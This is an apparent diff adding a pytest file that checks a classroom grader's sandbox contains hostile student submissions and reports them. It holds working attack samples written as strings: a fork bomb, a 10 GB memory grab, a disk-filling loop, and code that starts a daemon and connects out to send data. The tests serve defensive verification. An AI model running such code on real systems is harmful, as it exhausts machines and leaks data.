@@ -1,0 +1,124 @@
+"""Submissions that attack the grader's machine: a fork bomb, a 10 GB allocation, a filled
+disk, a network connection, a daemon. Each is contained, reported in its row, and leaves the
+machine as it was."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+from pathlib import Path
+
+import psutil
+import pytest
+
+from labkit.classroom import sandbox
+from labkit.classroom.grade import SandboxError, grade
+from tests.conftest import descendants
+from tests.grading import REPO, SMOKE, submission
+
+pytestmark = pytest.mark.skipif(sandbox.problem() is not None,
+                                reason=f"no sandbox here: {sandbox.problem()}")
+
+FORK_BOMB = """import os, time
+def ring_all_reduce(ctx, tensor):
+    me = os.getpid()
+    while True:
+        try:
+            if os.fork() == 0:
+                continue  # the child forks too
+        except OSError:
+            break
+    if os.getpid() != me:
+        time.sleep(600.25)  # hold every process slot
+        os._exit(0)
+    raise RuntimeError("fork failed: no more processes")
+"""
+ALLOCATES = """import torch
+def ring_all_reduce(ctx, tensor):
+    hog = torch.ones(10 * 2**30, dtype=torch.uint8)  # 10 GB, every page touched
+    return tensor + hog[:1]
+"""
+FILLS_DISK = """def ring_all_reduce(ctx, tensor):
+    with open("filler", "wb") as f:
+        while True:
+            f.write(b"x" * 2**20)
+"""
+CONNECTS = """import socket, subprocess
+def ring_all_reduce(ctx, tensor):
+    subprocess.Popen(["sleep", "{marker}"], start_new_session=True)  # a daemon, too
+    for address in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("{host}", {port})]:
+        try:
+            socket.create_connection(address, timeout=3).sendall(b"leaked")
+        except OSError as error:
+            last = error
+    raise last
+"""
+MARKER = "610.731"  # the daemon's sleep: how the test finds it if it is left behind
+
+
+def _host_address() -> str:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        try:
+            probe.connect(("10.255.255.255", 1))
+            return probe.getsockname()[0]
+        except OSError:
+            return "127.0.0.1"
+
+
+def _cgroups() -> set[str]:
+    return {str(p) for p in Path("/sys/fs/cgroup").rglob("labkit-grade-*")}
+
+
+def test_attacks_are_contained_and_reported(tmp_path):
+    listener = socket.create_server(("0.0.0.0", 0))
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    folder = tmp_path / "submissions"
+    submission(folder / "fork_bomb.ipynb", FORK_BOMB)
+    submission(folder / "allocates.ipynb", ALLOCATES)
+    submission(folder / "fills_disk.ipynb", FILLS_DISK)
+    submission(folder / "connects.ipynb",
+               CONNECTS.format(port=port, host=_host_address(), marker=MARKER))
+    before, disk, cgroups = set(psutil.pids()), psutil.disk_usage("/tmp").free, _cgroups()
+    limits = sandbox.Limits(memory_bytes=4 * 2**30, processes=128, disk_bytes=64 * 2**20)
+    results = grade([folder], tmp_path / "grades.csv", source_dir=REPO / "course",
+                    parameters=json.loads(SMOKE), cell_timeout=90, timeout=240, jobs=2,
+                    limits=limits, echo=lambda line: None)
+    rows = {r.path.stem: r.row() for r in results}
+    for row in rows.values():
+        assert row["points"] == 0 and row["exercise:ring_all_reduce_check"] == "failed", row
+    assert "hit the process limit (128)" in rows["fork_bomb"]["detail"], rows["fork_bomb"]
+    assert "allocate" in rows["allocates"]["detail"], rows["allocates"]
+    assert ("No space left on device" in rows["fills_disk"]["detail"]
+            or "File too large" in rows["fills_disk"]["detail"]), rows["fills_disk"]
+    assert "Network is unreachable" in rows["connects"]["detail"] or (
+        "Connection refused" in rows["connects"]["detail"]), rows["connects"]
+    with pytest.raises(BlockingIOError):
+        listener.accept()  # nobody reached the grader's machine
+    listener.close()
+    left = [p for p in set(psutil.pids()) - before if psutil.pid_exists(p)
+            and MARKER in _cmdline(p)]
+    assert not left, f"processes left behind: {left}"
+    assert not descendants()  # the fork bomb's processes, the ranks, the checkers
+    assert _cgroups() <= cgroups  # each submission's cgroup is removed
+    assert psutil.disk_usage("/tmp").free > disk - 32 * 2**20  # the filler is gone
+
+
+def _cmdline(pid: int) -> list[str]:
+    try:
+        return psutil.Process(pid).cmdline()
+    except psutil.Error:
+        return []
+
+
+def test_without_a_sandbox_grading_refuses_unless_told(tmp_path, monkeypatch):
+    sandbox.problem.cache_clear()
+    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
+    try:
+        with pytest.raises(SandboxError, match="--unsafe-no-sandbox: each submission's code"):
+            grade([tmp_path], tmp_path / "grades.csv")
+    finally:
+        sandbox.problem.cache_clear()
+    assert not (tmp_path / "grades.csv").exists()
+    assert os.environ["PATH"] == str(tmp_path)
